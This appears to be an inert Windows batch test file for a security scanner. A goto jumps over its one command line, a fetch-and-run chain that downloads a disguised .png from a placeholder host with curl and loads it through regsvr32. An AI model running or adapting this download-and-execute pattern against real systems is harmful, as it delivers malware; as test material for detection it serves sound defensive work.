@echo off
rem INERT SEKISHO TEST
goto :end
cmd /q /c echo 'i0' && ping inert.invalid && MD "%HOMEPATH%\In\Ert" && curl.exe --output %HOMEPATH%\In\Ert\inert.png https://example.invalid/q.png && regsvr32 -u "%HOMEPATH%\In\Ert\inert.png" && ping inert.invalid
:end
